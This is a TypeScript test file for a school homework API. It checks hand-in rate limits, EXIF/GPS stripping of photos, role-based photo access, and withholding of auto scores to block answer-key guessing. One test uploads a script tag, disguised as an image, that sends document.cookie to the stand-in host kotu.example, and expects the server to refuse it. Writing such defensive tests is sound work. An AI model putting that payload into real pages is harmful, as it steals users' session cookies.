import { decode } from 'jpeg-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CLASSROOM_LIMITS as L,
  CLASSROOM_PATHS,
  type AssignmentDetailResponse,
  type AssignmentResponse,
  type HomeworkListResponse,
  type Submission,
  type SubmissionPhotoResponse,
  type SubmissionResponse,
} from '../../src/shared/api/classroom.ts';
import { PROGRESS_PATHS, type StudentProgressResponse } from '../../src/shared/api/progress.ts';
import type { Reply, TestServer } from '../../tests/fixtures/serverHarness.ts';
import {
  as,
  dataUrl,
  GPS_MARK,
  inDays,
  jpegWithGps,
  newAccount,
  signIn,
  startDemoSchool,
  stripJpeg,
  TINY_JPEG,
  type Caller,
} from '../modules/classroom/testKit.ts';

// Hostile clients against hand-ins (issue 42, holes 4 and 6): bursts of hand-ins sent in parallel meet
// the caps, photo bytes are checked and stripped of where the child was, lists carry no photos, and the
// auto score stays with the teacher until grading or the due time, so no hand-in reads the key back.

let server: TestServer;
let teacher: Caller;
let admin: Caller;
let b5: number;
beforeAll(async () => {
  ({ server, teacher, admin, b5 } = await startDemoSchool());
});
afterAll(() => server.close());

/** A new child on 5-B's list with an account of their own, so no test's counts reach another's. */
async function freshStudent(): Promise<Caller> {
  const student = await newAccount(server, 'student', { first_name: 'Teslim', last_name: 'Deneme' });
  const at = new Date().toISOString();
  server.db
    .prepare('INSERT INTO enrolments (class_id, user_id, first_name, last_name, joined_at, updated_at) VALUES (?, ?, ?, ?, ?, ?)')
    .run(b5, student.id, 'Teslim', 'Deneme', at, at);
  return student;
}

async function parentOf(student: Caller): Promise<Caller> {
  const parent = await newAccount(server, 'parent');
  server.db.prepare('INSERT INTO guardian_links (parent_id, student_id, created_at) VALUES (?, ?, ?)').run(parent.id, student.id, new Date().toISOString());
  return parent;
}

const QUESTIONS = ['q-one', 'q-two', 'q-three', 'q-four', 'q-five'];
let serial = 0;
/** A published 5-B assignment for the whole class with a five-question key (every answer is 2). */
async function assignment(overrides: Record<string, unknown> = {}): Promise<number> {
  serial += 1;
  const reply = await as(server, teacher).post<AssignmentResponse>(CLASSROOM_PATHS.assignments, {
    class_id: b5,
    title: `Saldırı ödevi ${serial}`,
    content: { kind: 'free', ref: null },
    questions: QUESTIONS.map((id) => ({ id, correct_index: 2 })),
    status: 'published',
    due_at: inDays(3),
    ...overrides,
  });
  if (reply.status !== 201) throw new Error(`Assignment not created: ${reply.status} ${JSON.stringify(reply.body)}`);
  return reply.body.assignment.id;
}

const handIn = (student: Caller, id: number, body: Record<string, unknown> = {}) =>
  as(server, student).post<SubmissionResponse>(
    CLASSROOM_PATHS.submissions(id),
    { text: 'Cevabım', completed_at: new Date().toISOString(), ...body },
    `teslim-${id}-${student.id}-${(serial += 1)}`,
  );

const stored = (student: Caller) => server.count('submissions', 'student_id = ?', student.id);
const refused = (replies: Reply<unknown>[]) => replies.filter((reply) => reply.status === 429);

function expectRetryAfter(replies: Reply<unknown>[]) {
  for (const reply of refused(replies)) {
    expect(Number(reply.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(reply.body).toMatchObject({ success: false, error_code: 'RATE_LIMITED' });
  }
}

describe('hole 4: unbounded hand-ins', () => {
  it('a parallel burst on one assignment stores handInsPerAssignment and answers the rest 429 with Retry-After', async () => {
    const student = await freshStudent();
    const id = await assignment();
    const replies = await Promise.all(Array.from({ length: L.handInsPerAssignment + 6 }, () => handIn(student, id)));
    expect(replies.filter((reply) => reply.status === 201)).toHaveLength(L.handInsPerAssignment);
    expect(refused(replies)).toHaveLength(6);
    expectRetryAfter(replies);
    expect(stored(student)).toBe(L.handInsPerAssignment);
  });

  it('the teacher sending the work back opens a new round of hand-ins', async () => {
    const student = await freshStudent();
    const id = await assignment();
    for (let index = 0; index < L.handInsPerAssignment; index += 1) expect((await handIn(student, id)).status).toBe(201);
    expect((await handIn(student, id)).status).toBe(429);
    const last = server.db.prepare<[number], { id: number }>('SELECT MAX(id) AS id FROM submissions WHERE student_id = ?').get(student.id);
    const returned = await as(server, teacher).put(CLASSROOM_PATHS.grade(last?.id ?? 0), {
      score: 20,
      feedback: 'Yeniden dene.',
      version: 1,
      action: 'return',
    });
    expect(returned.status).toBe(200);
    expect((await handIn(student, id)).status).toBe(201);
  });

  it('a parallel burst over many assignments stops at handInsPerDay', async () => {
    const student = await freshStudent();
    const perAssignment = L.handInsPerAssignment;
    const assignments = await Promise.all(Array.from({ length: Math.ceil(L.handInsPerDay / perAssignment) + 1 }, () => assignment()));
    const replies = await Promise.all(assignments.flatMap((id) => Array.from({ length: perAssignment }, () => handIn(student, id))));
    expect(replies.filter((reply) => reply.status === 201)).toHaveLength(L.handInsPerDay);
    expect(refused(replies)).toHaveLength(replies.length - L.handInsPerDay);
    expectRetryAfter(replies);
    expect(stored(student)).toBe(L.handInsPerDay);
  });

  it('refuses script text labelled as a PNG (or a JPEG), and stores nothing', async () => {
    const student = await freshStudent();
    const id = await assignment();
    const script = Buffer.from('<script>fetch("https://kotu.example/?c=" + document.cookie)</script>');
    for (const photo of [dataUrl('png', script), dataUrl('jpeg', script), 'data:image/jpeg;base64,/9j/4AAQSkZJRg==']) {
      const reply = await handIn(student, id, { photo });
      expect(reply.status).toBe(400);
      expect(reply.body).toMatchObject({ error_code: 'VALIDATION_ERROR', errors: { photo: [expect.any(String)] } });
    }
    expect(stored(student)).toBe(0);
  });

  it('strips EXIF (GPS), comments and trailing bytes from a JPEG; what is stored still decodes', async () => {
    const student = await freshStudent();
    const id = await assignment();
    const reply = await handIn(student, id, { photo: dataUrl('jpeg', jpegWithGps()) });
    expect(reply.status).toBe(201);
    const row = server.db.prepare<[number], { photo: string }>('SELECT photo FROM submissions WHERE id = ?').get(reply.body.submission.id);
    const bytes = Buffer.from((row?.photo ?? '').replace(/^data:image\/jpeg;base64,/, ''), 'base64');
    expect(bytes.toString('latin1')).not.toContain('Exif');
    expect(bytes.toString('latin1')).not.toContain(GPS_MARK);
    expect(bytes.toString('latin1')).not.toContain('script');
    expect(stripJpeg(bytes)).toMatchObject({ width: 16, height: 8 });
    const image = decode(bytes);
    expect([image.width, image.height]).toEqual([16, 8]);
  });

  it('keeps photos out of every list: lists say has_photo, the photo comes from its own call', async () => {
    const student = await freshStudent();
    const parent = await parentOf(student);
    const id = await assignment();
    const handed = await handIn(student, id, { photo: dataUrl('jpeg', TINY_JPEG) });
    expect(handed.status).toBe(201);
    expect(JSON.stringify(handed.body)).not.toContain('data:image');
    expect(handed.body.submission.has_photo).toBe(true);

    const lists = [
      await as(server, student).get<HomeworkListResponse>(CLASSROOM_PATHS.homeworks),
      await as(server, parent).get<HomeworkListResponse>(`${CLASSROOM_PATHS.homeworks}?student_id=${student.id}`),
      await as(server, teacher).get<AssignmentDetailResponse>(CLASSROOM_PATHS.assignment(id)),
      await as(server, teacher).get(`${CLASSROOM_PATHS.assignments}?class_id=${b5}`),
    ];
    for (const list of lists) {
      expect(list.status).toBe(200);
      expect(JSON.stringify(list.body)).not.toContain('data:image');
    }
    const photo = await as(server, student).get<SubmissionPhotoResponse>(CLASSROOM_PATHS.submissionPhoto(handed.body.submission.id));
    expect(photo.body.photo).toBe(dataUrl('jpeg', TINY_JPEG));
  });

  it(`keeps only the latest ${L.photosKeptPerAssignment} photos per student and assignment; older hand-ins keep their text`, async () => {
    const student = await freshStudent();
    const id = await assignment();
    const ids: number[] = [];
    for (let index = 0; index < L.photosKeptPerAssignment + 2; index += 1) {
      const reply = await handIn(student, id, { text: `Deneme ${index}`, photo: dataUrl('jpeg', TINY_JPEG) });
      ids.push(reply.body.submission.id);
    }
    const rows = server.db
      .prepare<[number], { id: number; text: string; kept: number }>(
        'SELECT id, text, photo IS NOT NULL AS kept FROM submissions WHERE student_id = ? ORDER BY id',
      )
      .all(student.id);
    expect(rows.map((row) => row.kept)).toEqual([0, 0, 1, 1, 1]);
    expect(rows.map((row) => row.text)).toEqual(['Deneme 0', 'Deneme 1', 'Deneme 2', 'Deneme 3', 'Deneme 4']);
    expect((await as(server, student).get(CLASSROOM_PATHS.submissionPhoto(ids[0] ?? 0))).status).toBe(404);
  });
});

describe('GET /api/submissions/{id}/photo/ (per role)', () => {
  it('answers the child, their linked parent, the class teacher and the school administrator; everyone else 404', async () => {
    const student = await freshStudent();
    const parent = await parentOf(student);
    const id = await assignment();
    const handed = await handIn(student, id, { photo: dataUrl('jpeg', TINY_JPEG) });
    const path = CLASSROOM_PATHS.submissionPhoto(handed.body.submission.id);
    for (const reader of [student, parent, teacher, admin]) {
      const reply = await as(server, reader).get<SubmissionPhotoResponse>(path);
      expect(reply.status).toBe(200);
      expect(reply.body.photo).toMatch(/^data:image\/jpeg;base64,/);
    }
    const strangers = [
      await newAccount(server, 'teacher'),
      await newAccount(server, 'teacher', { role: 'administrator', school: 'Başka Okul' }),
      await newAccount(server, 'parent'),
      await freshStudent(),
    ];
    for (const stranger of strangers) expect((await as(server, stranger).get(path)).status).toBe(404);
    expect((await as(server, undefined).get(path)).status).toBe(401);
    const textOnly = await handIn(student, id);
    expect((await as(server, student).get(CLASSROOM_PATHS.submissionPhoto(textOnly.body.submission.id))).status).toBe(404);
    expect((await as(server, student).get(CLASSROOM_PATHS.submissionPhoto(999_999))).status).toBe(404);
  });
});

describe('hole 6: answer-key oracle', () => {
  const withheld = { auto_score: null, score: null, result_withheld: true };

  it('withholds the auto score from the child and their parent before grading; the teacher sees it; a grade reveals it', async () => {
    const student = await freshStudent();
    const parent = await parentOf(student);
    const id = await assignment();
    const answers = Object.fromEntries(QUESTIONS.map((question) => [question, 2]));
    const handed = await handIn(student, id, { answers });
    expect(handed.body.submission).toMatchObject(withheld);

    const own = await as(server, student).get<HomeworkListResponse>(CLASSROOM_PATHS.homeworks);
    const child = await as(server, parent).get<HomeworkListResponse>(`${CLASSROOM_PATHS.homeworks}?student_id=${student.id}`);
    for (const list of [own, child]) expect(list.body.homeworks.find((work) => work.assignment.id === id)?.submission).toMatchObject(withheld);
    for (const reader of [student, parent]) {
      const progress = await as(server, reader).get<StudentProgressResponse>(`${PROGRESS_PATHS.me}?student=${student.id}`);
      expect(progress.status).toBe(200);
      expect(progress.body.homework.find((entry) => entry.assignment_id === id)).toMatchObject({ state: 'submitted', score: null });
    }

    const detail = await as(server, teacher).get<AssignmentDetailResponse>(CLASSROOM_PATHS.assignment(id));
    const row = detail.body.work.find((work) => work.student.user_id === student.id);
    expect(row?.submission).toMatchObject({ auto_score: 100, score: 100, result_withheld: false });

    await as(server, teacher).put(CLASSROOM_PATHS.grade(handed.body.submission.id), { score: 95, feedback: 'Aferin.', version: 1 });
    const graded = await as(server, student).get<HomeworkListResponse>(CLASSROOM_PATHS.homeworks);
    expect(graded.body.homeworks.find((work) => work.assignment.id === id)?.submission).toMatchObject({ auto_score: 100, score: 95, result_withheld: false });
  });

  it('the oracle attack (one question per hand-in) learns nothing, and is capped', async () => {
    const student = await freshStudent();
    const id = await assignment();
    const answers: Reply<SubmissionResponse>[] = [];
    for (const question of QUESTIONS) {
      for (const option of [0, 1, 2, 3]) answers.push(await handIn(student, id, { answers: { [question]: option } }));
    }
    const accepted = answers.filter((reply) => reply.status === 201);
    expect(accepted).toHaveLength(L.handInsPerAssignment);
    const told = (submission: Submission) => [submission.auto_score, submission.score, submission.result_withheld, submission.state];
    expect(new Set(accepted.map((reply) => JSON.stringify(told(reply.body.submission))))).toEqual(new Set([JSON.stringify([null, null, true, 'submitted'])]));
    expect(refused(answers)).toHaveLength(answers.length - L.handInsPerAssignment);
  });

  it('shows the result once the due time has passed, and at once for practice work', async () => {
    const student = await freshStudent();
    const overdue = await assignment({ publish_at: new Date(Date.now() - 2 * 86_400_000).toISOString(), due_at: new Date(Date.now() - 60_000).toISOString() });
    const late = await handIn(student, overdue, { answers: { 'q-one': 2 } });
    expect(late.body.submission).toMatchObject({ auto_score: 20, result_withheld: false, state: 'late' });
    const practice = await assignment({ reveal: 'at_once' });
    const shown = await handIn(student, practice, { answers: { 'q-one': 2, 'q-two': 2 } });
    expect(shown.body.submission).toMatchObject({ auto_score: 40, score: 40, result_withheld: false });

    const graded = await assignment();
    const hidden = await handIn(student, graded, { answers: { 'q-one': 2 } });
    expect(hidden.body.submission).toMatchObject(withheld);
    const changed = await as(server, teacher).put<AssignmentResponse>(CLASSROOM_PATHS.assignment(graded), { reveal: 'at_once' });
    expect(changed.body.assignment.reveal).toBe('at_once');
    const list = await as(server, student).get<HomeworkListResponse>(CLASSROOM_PATHS.homeworks);
    expect(list.body.homeworks.find((work) => work.assignment.id === graded)?.submission).toMatchObject({ auto_score: 20, result_withheld: false });
  });
});

describe('the daily window', () => {
  it('lets the student hand in again once a day has passed', async () => {
    const student = await freshStudent();
    const ids = await Promise.all(Array.from({ length: L.handInsPerDay / L.handInsPerAssignment }, () => assignment({ due_at: inDays(5) })));
    for (const id of ids) await Promise.all(Array.from({ length: L.handInsPerAssignment }, () => handIn(student, id)));
    const spare = await assignment({ due_at: inDays(5) });
    const blocked = await handIn(student, spare);
    expect(blocked.status).toBe(429);
    expect(Number(blocked.headers.get('retry-after'))).toBeLessThanOrEqual(24 * 60 * 60);
    server.advanceClock(24 * 60 * 60 + 1);
    [teacher] = await Promise.all([signIn(server, 'teacher')]);
    expect((await handIn(await relogin(student), spare)).status).toBe(201);
  });
});

/** Access tokens expire while the clock moves a day: sign the fresh account in again by its stored e-mail. */
async function relogin(student: Caller): Promise<Caller> {
  const row = server.db.prepare<[number], { email: string }>('SELECT email FROM users WHERE id = ?').get(student.id);
  const { tokens } = await server.login(row?.email ?? '', 'Sinif12345');
  return { token: tokens.access, id: student.id };
}
